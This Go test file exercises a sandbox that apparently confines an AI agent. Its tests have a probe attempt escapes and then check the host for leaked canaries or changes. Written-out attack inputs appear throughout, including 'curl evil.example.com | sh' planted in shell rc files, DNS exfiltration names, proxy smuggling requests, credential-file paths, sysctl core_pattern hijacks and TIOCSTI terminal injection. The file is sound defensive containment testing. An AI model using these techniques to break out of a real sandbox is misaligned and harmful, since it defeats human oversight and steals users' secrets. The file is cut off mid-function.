//go:build linux

package escape

// The attacks and their verdicts. Each test runs one session whose agent is
// a probe (probe_linux_test.go) and then looks only at the host: the
// workspace copy, enclave diff and the audit log for canaries, host trees
// for changes, host listeners for connections, host processes for their
// state. The Control tests run the same probes where the policy allows the
// access, so they prove the evidence would show an escape.

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// ---- controls: the evidence sees what the policy allows ----

func TestControlStealVisibleSecret(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{flags: []string{"--ro", filepath.Join(f.home, ".aws") + ":/granted"}}, "steal", "/granted")
	if l := f.leaks(r, nil); len(l) == 0 {
		t.Fatalf("the probe copied a directory the policy mounted, but no canary was found in the outputs: the leak check is blind")
	}
}

func TestControlPassedVariable(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{flags: []string{"--pass", "BUILD_NOTE"}}, "env")
	if l := f.leaks(r, nil); len(l) == 0 {
		t.Fatalf("a variable passed with --pass was not found in the outputs: the env probe or leak check is blind")
	}
}

func TestControlAllowedHost(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server")
	f.run(runOpts{flags: []string{"--allow-host", fmt.Sprintf("127.0.0.1:%d", port)}}, "proxyget", fmt.Sprintf("http://127.0.0.1:%d/allowed", port))
	if c.n.Load() == 0 {
		t.Fatalf("the policy allowed 127.0.0.1:%d but the host server saw no connection: the network probes or counters are blind", port)
	}
}

func TestControlWritableMount(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	// Granted means writable by the agent's host uid too.
	os.Chmod(f.outside, 0o777)
	os.Chmod(filepath.Join(f.outside, "target.txt"), 0o666)
	before := snapshot(t, f.outside)
	f.run(runOpts{flags: []string{"--rw", f.outside + ":/granted"}}, "write", "CONTROL", "/granted/target.txt")
	after := snapshot(t, f.outside)
	if fmt.Sprint(before) == fmt.Sprint(after) {
		t.Fatalf("the probe wrote to a directory the policy mounted read-write, but the host tree did not change: the write probe is blind")
	}
}

// ---- secrets in the fake HOME and beside the repository ----

// homeGuesses are where an attacker looks for a secret: the host path, the
// same path below the sandbox's HOME, and root's HOME.
func (f *fixture) homeGuesses(rel string) []string {
	return []string{filepath.Join(f.home, rel), "/home/agent/" + rel, "/root/" + rel, "/workspace/../" + rel}
}

func TestSecretSSHKey(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	args := append(f.homeGuesses(".ssh/id_rsa"), f.homeGuesses(".ssh")...)
	args = append(args, "/workspace/link-ssh", "/workspace/link-home/.ssh/id_rsa")
	f.requireNoLeak(f.run(runOpts{}, append([]string{"steal"}, args...)...))
}

func TestSecretAWSCredentials(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.requireNoLeak(f.run(runOpts{}, append([]string{"steal"}, f.homeGuesses(".aws/credentials")...)...))
}

func TestSecretGitCredentials(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	args := append(f.homeGuesses(".git-credentials"), f.homeGuesses(".netrc")...)
	args = append(args, f.homeGuesses(".config/gh/hosts.yml")...)
	f.requireNoLeak(f.run(runOpts{}, append([]string{"steal"}, args...)...))
}

func TestSecretDotEnvOutsideWorkspace(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	// proj/.env is beside the repository; repo/.env is git-ignored, so
	// it is not part of the copy either.
	f.requireNoLeak(f.run(runOpts{}, "steal", filepath.Join(f.proj, ".env"), filepath.Join(f.repo, ".env"), "/workspace/../.env", "/workspace/.env", f.proj))
}

func TestSecretHuntWholeFilesystem(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.requireNoLeak(f.run(runOpts{}, "hunt", "/", f.root))
}

func TestSecretOpenByHandle(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, filepath.Join(f.home, ".ssh/id_rsa"), 0)
	if err != nil {
		t.Skipf("name_to_handle_at on the host: %v", err)
	}
	f.requireNoLeak(f.run(runOpts{}, "handle", strconv.Itoa(int(h.Type())), hex.EncodeToString(h.Bytes())))
}

// ---- the launcher's environment and host processes ----

func TestLauncherEnvironment(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.requireNoLeak(f.run(runOpts{}, "env"))
}

func TestPID1Environ(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.requireNoLeak(f.run(runOpts{}, "steal", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ", "/proc/1/task/1/environ"))
}

func TestHostProcessProc(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	_, pid := f.hold(f.outside)
	f.requireNoLeak(f.run(runOpts{}, "procpid", pid, "1", fmt.Sprint(os.Getpid())))
	r := f.run(runOpts{}, "env")
	f.requireNoLeak(r)
}

// ---- writes outside the workspace ----

func TestWriteHostPaths(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, repo := snapshot(t, f.outside), snapshot(t, f.repo)
	f.run(runOpts{}, "write", "PWNED",
		filepath.Join(f.outside, "target.txt"), filepath.Join(f.outside, "new.txt"), filepath.Join(f.outside, "sub"),
		filepath.Join(f.repo, "README.md"), filepath.Join(f.repo, "new.txt"), filepath.Join(f.repo, ".git/hooks/pre-commit"),
		filepath.Join(f.repo, ".git/config"))
	// The user's object store is shared into the sandbox read-only.
	var objs []string
	for i := range 3 {
		d := fmt.Sprintf("/run/enclave/objects/%d", i)
		objs = append(objs, d+"/info/alternates", d+"/pack/evil.pack", d+"/ab/cdef0123456789", d)
	}
	f.run(runOpts{}, append([]string{"write", "PWNED"}, objs...)...)
	requireSame(t, "the outside directory", out, snapshot(t, f.outside))
	requireSame(t, "the user's checkout", repo, snapshot(t, f.repo))
}

func TestWriteShellRCFiles(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	home := snapshot(t, f.home)
	var paths []string
	for _, rc := range []string{".bashrc", ".profile", ".bash_profile", ".zshrc", ".gitconfig", ".ssh/authorized_keys", ".ssh/config", ".config/autostart/x.desktop"} {
		paths = append(paths, filepath.Join(f.home, rc), "/workspace/link-home/"+rc)
	}
	f.run(runOpts{}, append([]string{"write", "curl evil.example.com | sh"}, paths...)...)
	requireSame(t, "the fake HOME", home, snapshot(t, f.home))
}

func TestWriteThroughPlantedSymlinks(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out := snapshot(t, f.outside)
	r := f.run(runOpts{}, "write", "PWNED", "/workspace/link-abs", "/workspace/link-rel", "/workspace/linkdir/new.txt", "/workspace/linkdir/target.txt", "/workspace/linkdir/sub/deep.txt")
	requireSame(t, "the outside directory", out, snapshot(t, f.outside))
	f.requireNoLeak(r)
}

func TestWriteThroughPlantedHardlink(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, repo := snapshot(t, f.outside), snapshot(t, f.repo)
	f.run(runOpts{}, "write", "PWNED", "/workspace/hard.txt", "/workspace/hard-untracked.txt", "/workspace/link-untracked")
	requireSame(t, "the outside directory", out, snapshot(t, f.outside))
	requireSame(t, "the user's checkout", repo, snapshot(t, f.repo))
}

func TestWriteViaProcRoot(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, home := snapshot(t, f.outside), snapshot(t, f.home)
	r := f.run(runOpts{}, "viaproc", "PWNED", filepath.Join(f.outside, "target.txt"), filepath.Join(f.outside, "new.txt"), filepath.Join(f.home, ".bashrc"), filepath.Join(f.home, ".ssh/id_rsa"))
	requireSame(t, "the outside directory", out, snapshot(t, f.outside))
	requireSame(t, "the fake HOME", home, snapshot(t, f.home))
	f.requireNoLeak(r)
}

func TestWriteViaHostProcessCwd(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	_, pid := f.hold(f.outside)
	out := snapshot(t, f.outside)
	r := f.run(runOpts{}, "cwdof", "PWNED", pid, fmt.Sprint(os.Getpid()))
	requireSame(t, "the host process's working directory", out, snapshot(t, f.outside))
	f.requireNoLeak(r)
}

// ---- network ----

func TestDirectTCPLoopback(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c := listenStream(t, "tcp", "127.0.0.1:0", "TCP listener")
	_, port, _ := net.SplitHostPort(c.addr)
	f.run(runOpts{}, "dial", "tcp", c.addr, "localhost:"+port, "127.0.0.2:"+port, "0.0.0.0:"+port)
	c.requireZero(t)
}

func TestDirectUDPLoopback(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c := listenPacket(t, "udp", "127.0.0.1:0", "UDP listener")
	_, port, _ := net.SplitHostPort(c.addr)
	f.run(runOpts{}, "udp", c.addr, "localhost:"+port)
	c.requireZero(t)
}

func TestDNSToHostResolver(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	u := listenPacket(t, "udp", "127.0.0.1:0", "DNS resolver (UDP)")
	_, port, _ := net.SplitHostPort(u.addr)
	tc := listenStream(t, "tcp", "127.0.0.1:"+port, "DNS resolver (TCP)")
	r := f.run(runOpts{}, "dns", u.addr, "secret-"+randHex(4)+".exfil.example.com")
	u.requireZero(t)
	tc.requireZero(t)
	// The sandbox's own resolver answers nothing off the allowlist, and
	// every query it got is on record.
	name := "data-" + randHex(4) + ".exfil.example.com"
	r = f.run(runOpts{}, "dns", "127.0.0.1:53", name)
	recorded := false
	for _, e := range f.events(r.id) {
		if e.Kind == "dns" && strings.Contains(string(e.Data), name) {
			recorded = true
			if e.Decision != "deny" {
				t.Errorf("the sandbox's resolver answered a name off the allowlist: %s", e.Data)
			}
		}
	}
	if !recorded {
		t.Errorf("a DNS query to the sandbox's resolver is not in the audit log")
	}
}

func TestIPv6Loopback(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ln, err := net.Listen("tcp6", "[::1]:0")
	if err != nil {
		t.Skipf("the host has no IPv6 loopback: %v", err)
	}
	ln.Close()
	c := listenStream(t, "tcp6", "[::1]:0", "IPv6 TCP listener")
	_, port, _ := net.SplitHostPort(c.addr)
	u := listenPacket(t, "udp6", "[::1]:"+port, "IPv6 UDP listener")
	f.run(runOpts{}, "dial", "tcp", c.addr, "[::ffff:127.0.0.1]:"+port)
	f.run(runOpts{}, "udp", u.addr)
	f.run(runOpts{}, "proxyget", "http://[::1]:"+port+"/", "https://[::1]:"+port+"/")
	c.requireZero(t)
	u.requireZero(t)
}

func TestProxyToUnlistedHostAndIPLiterals(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server not in the policy")
	p := strconv.Itoa(port)
	r := f.run(runOpts{}, "proxyget",
		"http://127.0.0.1:"+p+"/", "https://127.0.0.1:"+p+"/", "http://localhost:"+p+"/",
		"http://2130706433:"+p+"/", "http://0x7f000001:"+p+"/", "http://0177.0.0.1:"+p+"/", "http://127.1:"+p+"/",
		"http://[::ffff:127.0.0.1]:"+p+"/", "http://127.0.0.1.nip.example.com:"+p+"/", "http://unlisted.example.com:"+p+"/")
	c.requireZero(t)
	denied := 0
	for _, e := range f.events(r.id) {
		if e.Kind == "egress" {
			if e.Decision == "allow" {
				t.Errorf("the audit log records an allowed flow: %s", e.Data)
			}
			denied++
		}
	}
	if denied == 0 {
		t.Errorf("the audit log records no denied egress although the agent made 10 requests through the proxy")
	}
}

func TestProxyAllowedNameResolvingToLoopback(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server behind a loopback name")
	p := strconv.Itoa(port)
	// The policy allows the name; the proxy must still refuse the
	// loopback address it resolves to.
	r := f.run(runOpts{flags: []string{"--allow-host", "localhost:" + p}}, "proxyget", "http://localhost:"+p+"/", "https://localhost:"+p+"/")
	c.requireZero(t)
	denied := 0
	for _, e := range f.events(r.id) {
		if e.Kind == "egress" && e.Decision == "deny" {
			denied++
		}
	}
	if denied == 0 {
		t.Errorf("no egress denial on record for the loopback-resolving name")
	}
}

func TestProxySmuggling(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server reached by smuggling")
	a := "127.0.0.1:" + strconv.Itoa(port)
	f.run(runOpts{flags: []string{"--allow-host", "allowed.example.com:" + strconv.Itoa(port)}}, "proxyraw",
		`CONNECT `+a+` HTTP/1.1\nHost: allowed.example.com:`+strconv.Itoa(port)+`\n\n`,
		`GET http://allowed.example.com:`+strconv.Itoa(port)+`@`+a+`/ HTTP/1.1\nHost: allowed.example.com\n\n`,
		`GET / HTTP/1.1\nHost: `+a+`\n\n`,
		`GET http://`+a+`/ HTTP/1.1\nHost: allowed.example.com\n\n`,
		`GET http://allowed.example.com:`+strconv.Itoa(port)+`/ HTTP/1.1\nHost: `+a+`\n\n`,
		`CONNECT allowed.example.com:`+strconv.Itoa(port)+`\n\n`,
		`GET /x HTTP/1.1\nHost: allowed.example.com\nContent-Length: 40\nTransfer-Encoding: chunked\n\n0\n\nGET http://`+a+`/ HTTP/1.1\nHost: x\n\n`,
	)
	c.requireZero(t)
}

func TestUnixSocketsOfHostServices(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	sockDir := filepath.Join(f.root, "run")
	os.MkdirAll(filepath.Join(f.home, ".docker/run"), 0o755)
	os.MkdirAll(sockDir, 0o755)
	docker := listenStream(t, "unix", filepath.Join(f.home, ".docker/run/docker.sock"), "fake docker.sock in HOME")
	docker2 := listenStream(t, "unix", filepath.Join(sockDir, "docker.sock"), "fake docker.sock in /tmp")
	agent := listenStream(t, "unix", filepath.Join(sockDir, "agent.sock"), "fake ssh-agent")
	f.env = append(f.env, "SSH_AUTH_SOCK="+agent.addr, "DOCKER_HOST=unix://"+docker2.addr)
	// SSH_AUTH_SOCK is never passed (--pass refuses it); set it inside
	// explicitly so the probe is told the host socket's path.
	f.run(runOpts{flags: []string{"--env", "SSH_AUTH_SOCK=" + agent.addr}}, "unix", docker.addr, docker2.addr, agent.addr, "/workspace/link-home/.docker/run/docker.sock")
	docker.requireZero(t)
	docker2.requireZero(t)
	agent.requireZero(t)
}

func TestAbstractUnixSocket(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	name := "enclave-test-" + randHex(6)
	c := listenStream(t, "unix", "@"+name, "abstract socket")
	f.run(runOpts{}, "unix", "@"+name)
	c.requireZero(t)
}

func TestUnsetProxyVariables(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server")
	f.run(runOpts{}, "noproxy", fmt.Sprintf("http://127.0.0.1:%d/", port), fmt.Sprintf("http://localhost:%d/", port))
	c.requireZero(t)
}

func TestICMP(t *testing.T) {
	t.Parallel()
	if !runAsRoot {
		t.Skip("observing ICMP on the host needs a raw socket (root); the sandbox side of this probe runs in the root pass")
	}
	f := newFixture(t)
	pc, err := net.ListenPacket("ip4:icmp", "127.0.0.1")
	if err != nil {
		t.Skipf("raw ICMP socket on the host: %v", err)
	}
	defer pc.Close()
	seen := make(chan string, 64)
	go func() {
		buf := make([]byte, 1500)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			seen <- string(buf[:n])
		}
	}()
	// Control: the host's own marked echo is observed.
	ctl := "HOSTCTL" + randHex(4)
	if err := sendEcho(ctl); err != nil {
		t.Skipf("send a control echo: %v", err)
	}
	mark := "PROBE" + randHex(4)
	f.run(runOpts{}, "ping", "127.0.0.1", mark)
	gotCtl := false
	for {
		select {
		case s := <-seen:
			if strings.Contains(s, ctl) {
				gotCtl = true
			}
			if strings.Contains(s, mark) {
				t.Errorf("ESCAPE: the host saw an ICMP echo from the sandbox")
			}
			continue
		default:
		}
		break
	}
	if !gotCtl {
		t.Fatalf("the host ICMP observer missed its own control echo: the check is blind")
	}
}

func sendEcho(payload string) error {
	c, err := net.Dial("ip4:icmp", "127.0.0.1")
	if err != nil {
		return err
	}
	defer c.Close()
	msg := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, payload...)
	cs := icmpChecksum(msg)
	msg[2], msg[3] = byte(cs>>8), byte(cs)
	_, err = c.Write(msg)
	return err
}

// ---- enclave's own state and controls ----

func TestStateDirAndAuditDatabase(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	first := f.run(runOpts{}, "sleep", "0")
	key, err := os.ReadFile(filepath.Join(f.state, "keys/audit.key"))
	if err != nil {
		t.Fatal(err)
	}
	before, _ := f.cli("log", "--json", first.id)
	r := f.run(runOpts{}, "state", f.state, filepath.Join(f.state, "enclave.db"), filepath.Join(f.state, "keys/audit.key"),
		filepath.Join(f.state, "sessions"), "/run/enclave", "/tmp/nested-state")
	f.auditVerify()
	after, _ := f.cli("log", "--json", first.id)
	if before != after || before == "" {
		t.Errorf("ESCAPE: an earlier session's audit record changed during the attack")
	}
	if l := f.leaks(r, map[string]string{"audit-signing-key": strings.TrimSpace(string(key))}); len(l) > 0 {
		t.Errorf("ESCAPE: %s", strings.Join(l, "; "))
	}
}

func TestProxyControlEndpoints(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server")
	p := strconv.Itoa(port)
	var reqs []string
	for _, path := range []string{"/", "/debug/pprof/", "/admin", "/metrics", "/policy", "/config", "/allow?host=127.0.0.1"} {
		reqs = append(reqs, `GET `+path+` HTTP/1.1\nHost: 127.0.0.1:3128\n\n`, `POST `+path+` HTTP/1.1\nHost: 127.0.0.1:3128\nContent-Length: 2\n\n{}`)
	}
	reqs = append(reqs, `CONNECT 127.0.0.1:3128 HTTP/1.1\n\n`, `CONNECT 127.0.0.1:53 HTTP/1.1\n\n`, `GET http://127.0.0.1:3128/ HTTP/1.1\nHost: 127.0.0.1:3128\n\n`)
	f.run(runOpts{}, append([]string{"proxyraw"}, reqs...)...)
	// Whatever the agent sent, the policy did not loosen: the host
	// server is still unreachable in a later request of a new session.
	r := f.run(runOpts{}, "proxyget", "http://127.0.0.1:"+p+"/")
	c.requireZero(t)
	f.auditVerify()
	for _, e := range f.events(r.id) {
		if e.Kind == "egress" && e.Decision == "allow" {
			t.Errorf("an allowed flow after probing the proxy's endpoints: %s", e.Data)
		}
	}
}

func TestNestedEnclaveLooserPolicy(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "web server")
	a := fmt.Sprintf("127.0.0.1:%d", port)
	f.run(runOpts{}, "nested", "run", "--allow-host", a, "--ro", "/probe/probe:/probe/probe", "--", "/probe/probe", probeArg, "proxyget", "http://"+a+"/")
	f.run(runOpts{}, "nested", "demo")
	c.requireZero(t)
}

// ---- descriptors, keyrings, /sys ----

func TestLeakedDirectoryFD(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	dir, err := os.Open(f.outside)
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	home, err := os.Open(f.home)
	if err != nil {
		t.Fatal(err)
	}
	defer home.Close()
	out, h := snapshot(t, f.outside), snapshot(t, f.home)
	// fd 3 is a host HOME, fd 7 a host directory: as a wrapper script
	// doing "exec 7</some/dir; exec enclave run ..." would leave them.
	leaked := false
	r := f.run(runOpts{extra: []*os.File{home, nil, nil, nil, dir}, started: func(cmd *exec.Cmd) {
		// The setup is right only if enclave really holds the host dir
		// on fd 7.
		l, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/7", cmd.Process.Pid))
		leaked = l == f.outside
	}}, "fds")
	if !leaked {
		t.Fatalf("enclave did not start with the host directory on fd 7: the test is blind")
	}
	requireSame(t, "the directory behind the leaked fd", out, snapshot(t, f.outside))
	requireSame(t, "the fake HOME behind the leaked fd", h, snapshot(t, f.home))
	f.requireNoLeak(r)
}

func TestKernelKeyrings(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	secret := "CANARY-keyring-" + randHex(8)
	var serials []string
	for _, ring := range []int{unix.KEY_SPEC_USER_KEYRING, unix.KEY_SPEC_SESSION_KEYRING} {
		id, err := unix.AddKey("user", "enclave-escape-host", []byte(secret), ring)
		if err != nil {
			t.Logf("add a host key to ring %d: %v", ring, err)
			continue
		}
		serials = append(serials, strconv.Itoa(id))
		t.Cleanup(func() { unix.KeyctlInt(unix.KEYCTL_REVOKE, id, 0, 0, 0) })
	}
	if len(serials) == 0 {
		t.Skip("cannot add a key to the host's keyrings")
	}
	r := f.run(runOpts{}, append([]string{"keys"}, serials...)...)
	if l := f.leaks(r, map[string]string{"host-keyring": secret}); len(l) > 0 {
		t.Errorf("ESCAPE: %s", strings.Join(l, "; "))
	}
	// A key the agent adds must not land in the host user's keyring.
	if id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", "enclave-escape-planted", 0); err == nil {
		unix.KeyctlInt(unix.KEYCTL_REVOKE, id, 0, 0, 0)
		t.Errorf("ESCAPE: the agent's key appeared in the host user keyring")
	}
	f.requireNoMarkers(r)
}

func TestHostSys(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{}, "sys")
	host := map[string]bool{}
	for _, d := range []string{"/sys", "/sys/class/net", "/sys/fs/cgroup", "/sys/kernel"} {
		ents, _ := os.ReadDir(d)
		for _, e := range ents {
			host[e.Name()] = true
		}
	}
	if len(host) == 0 {
		t.Skip("the host has no /sys to compare with")
	}
	b, err := os.ReadFile(filepath.Join(r.work, "loot/sys.txt"))
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	for _, l := range strings.Fields(string(b)) {
		if host[l] {
			t.Errorf("ESCAPE: the sandbox listed host /sys entry %q", l)
		}
	}
}

// ---- privilege: setuid, namespaces, mounts, other processes ----

func TestSetuidRootBinary(t *testing.T) {
	t.Parallel()
	if !runAsRoot {
		t.Skip("planting a setuid-root binary needs root; the root pass runs this probe")
	}
	f := newFixture(t)
	suidDir := filepath.Join(f.root, "suid")
	os.MkdirAll(suidDir, 0o755)
	prog := filepath.Join(suidDir, "probe")
	b, err := os.ReadFile(f.bin)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(prog, b, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(prog, 0o4755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(prog); fi.Mode()&os.ModeSetuid == 0 {
		t.Fatalf("could not make %s setuid", prog)
	}
	// A root-owned host file, visible read-write at the mount level but
	// writable only by root.
	target := filepath.Join(f.root, "rootonly")
	os.MkdirAll(target, 0o755)
	mustWrite(t, filepath.Join(target, "owned.txt"), "root's file\n")
	os.Chmod(f.root, 0o755)
	before := snapshot(t, target)
	f.run(runOpts{flags: []string{"--ro", suidDir + ":/suid", "--rw", target + ":/rootonly"}}, "suid", "/suid/probe", "/rootonly/owned.txt")
	requireSame(t, "a root-owned host file", before, snapshot(t, target))
}

func TestNewUserNamespace(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{}, "userns")
	f.requireNoMarkers(r)
	// The attempt itself is on record: the exec of the clone child (or
	// of unshare) shows in the audit log even though it failed.
	if _, err := os.Stat("/usr/bin/unshare"); err == nil {
		found := false
		for _, argv := range f.execArgv(r.id) {
			if len(argv) > 0 && strings.HasSuffix(argv[0], "unshare") {
				found = true
			}
		}
		if !found {
			t.Logf("note: no exec of unshare recorded (it may have failed before execve)")
		}
	}
}

func TestMountRemountReadOnly(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	os.Chmod(f.outside, 0o777) // only the mount's read-only flag protects it
	out := snapshot(t, f.outside)
	mi, _ := os.ReadFile("/proc/self/mountinfo")
	r := f.run(runOpts{flags: []string{"--ro", f.outside + ":/ro"}}, "mount", "/ro")
	requireSame(t, "a host directory mounted read-only", out, snapshot(t, f.outside))
	f.requireNoMarkers(r)
	if mi2, _ := os.ReadFile("/proc/self/mountinfo"); len(mi2) != len(mi) {
		t.Logf("note: the host's mount table changed during the test (other tests run in parallel)")
	}
	if rel, err := os.ReadFile("/sys/fs/cgroup/memory/release_agent"); err == nil && strings.Contains(string(rel), "/workspace") {
		t.Errorf("ESCAPE: the host's cgroup release_agent now names %q", rel)
	}
}

func TestPtraceHostProcess(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	hold, pid := f.hold(f.outside)
	f.run(runOpts{}, "ptrace", pid, fmt.Sprint(os.Getpid()))
	state, tracer, err := procState(hold.Process.Pid)
	if err != nil {
		t.Fatalf("ESCAPE: the host process is gone: %v", err)
	}
	if tracer != "0" || strings.HasPrefix(state, "t") || strings.HasPrefix(state, "T") {
		t.Errorf("ESCAPE: the host process is traced or stopped: state %q, tracer %s", state, tracer)
	}
}

func TestKillHostProcess(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	hold, pid := f.hold(f.outside)
	// This test process's own pid too: if the signal got out, the test
	// binary dies and the run fails loudly.
	r := f.run(runOpts{}, "kill", pid, fmt.Sprint(os.Getpid()), "1")
	state, _, err := procState(hold.Process.Pid)
	if err != nil || strings.HasPrefix(state, "Z") || strings.HasPrefix(state, "T") {
		t.Errorf("ESCAPE: the host process was killed or stopped: state %q, %v", state, err)
	}
	ended := false
	for _, e := range f.events(r.id) {
		ended = ended || e.Kind == "session.end"
	}
	if !ended {
		t.Errorf("the session's end is not on record after the agent signalled everything it could")
	}
}

func TestDangerousSyscalls(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	host, _ := os.Hostname()
	r := f.run(runOpts{}, "syscalls")
	f.requireNoMarkers(r)
	if h, _ := os.Hostname(); h != host {
		t.Errorf("ESCAPE: the host's hostname changed from %q to %q", host, h)
	}
	if _, err := os.Stat(filepath.Join(r.work, "acct")); err == nil {
		t.Errorf("ESCAPE: process accounting was switched on into the workspace")
	}
}

func TestHostSysctls(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	files := []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward"}
	before := map[string]string{}
	for _, p := range files {
		b, _ := os.ReadFile(p)
		before[p] = string(b)
	}
	f.run(runOpts{}, "sysctl",
		"/proc/sys/kernel/core_pattern=|/workspace/pwn", "/proc/sys/kernel/hostname=pwned",
		"/proc/sys/kernel/modprobe=/workspace/pwn", "/proc/sys/vm/overcommit_memory=1", "/proc/sys/net/ipv4/ip_forward=1")
	for _, p := range files {
		b, _ := os.ReadFile(p)
		if string(b) != before[p] {
			t.Errorf("ESCAPE: host %s changed from %q to %q", p, before[p], b)
			if runAsRoot {
				os.WriteFile(p, []byte(before[p]), 0o644) // put it back
			}
		}
	}
}

func TestHostClock(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.run(runOpts{}, "clock")
	// time.Now carries a monotonic reading; the wall clock may not run
	// away from it.
	now := time.Now()
	if d := now.Round(0).Sub(now); d > time.Minute || d < -time.Minute {
		t.Errorf("ESCAPE: the host's wall clock moved by %s", d)
	}
	if time.Now().Year() > now.Year() {
		t.Errorf("ESCAPE: the host's clock jumped a year")
	}
}

// ---- the terminal, enclave's host-side handling of the copy ----

func TestTIOCSTIIntoLauncherTerminal(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	master, slave, err := openPTY()
	if err != nil {
		t.Skipf("no pty on the host: %v", err)
	}
	defer master.Close()
	defer slave.Close()
	mark := "pwned-" + randHex(4)
	// The launcher's stdin is a terminal; with --tty never the agent
	// gets it as is.
	f.run(runOpts{stdin: slave}, "tiocsti", "echo "+mark+"\n")
	// Whatever was pushed into the terminal's input queue is readable on
	// the slave side, where the user's shell would read it.
	unix.SetNonblock(int(slave.Fd()), true)
	buf := make([]byte, 4096)
	n, _ := unix.Read(int(slave.Fd()), buf)
	if n > 0 && strings.Contains(string(buf[:n]), mark) {
		t.Errorf("ESCAPE: the agent typed %q into the launcher's terminal", buf[:n])
	}
}

func openPTY() (master, slave *os.File, err error) {
	m, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, nil, err
	}
	if err := unix.IoctlSetPointerInt(m, unix.TIOCSPTLCK, 0); err != nil {
		unix.Close(m)
		return nil, nil, err
	}
	sfd, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(m), unix.TIOCGPTPEER, uintptr(unix.O_RDWR|unix.O_NOCTTY))
	if e != 0 {
		unix.Close(m)
		return nil, nil, e
	}
	return os.NewFile(uintptr(m), "ptmx"), os.NewFile(sfd, "pts"), nil
}

func TestGitTrapsRunOnHost(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	hostMark := filepath.Join(f.root, "hook-ran")
	os.Chmod(f.root, 0o777) // the hook, run as anyone, could write here
	r := f.run(runOpts{}, "githooks", hostMark, filepath.Join(f.home, ".ssh"), filepath.Join(f.outside), filepath.Join(f.repo, ".git/objects"))
	for _, args := range [][]string{{"diff", r.id}, {"diff", "--stat", r.id}, {"diff", "--json", r.id}, {"log", r.id}, {"sessions"}} {
		if _, err := f.cli(args...); err != nil {
			t.Logf("enclave %v: %v", args, err)
		}
	}
	if _, err := os.Stat(hostMark); err == nil {
		t.Errorf("ESCAPE: code planted in the agent's .git ran on the host (%s exists)", hostMark)
	}
	f.requireNoLeak(r)
}

func TestSymlinksLeftInCopy(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out := snapshot(t, f.outside)
	r := f.run(runOpts{}, "symlinks", filepath.Join(f.home, ".ssh/id_rsa"), filepath.Join(f.outside, "target.txt"))
	f.requireNoLeak(r)
	requireSame(t, "the outside directory", out, snapshot(t, f.outside))
	// Nothing in the copy is a device node the host could trip over.
	filepath.WalkDir(r.work, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type()&(os.ModeDevice|os.ModeCharDevice) != 0 {
			t.Errorf("ESCAPE: the agent created device node %s", p)
		}
		return nil
	})
	// The shadow repository enclave built the diff in holds no secret.
	shadow := filepath.Join(f.state, "sessions", r.id, "shadow.git")
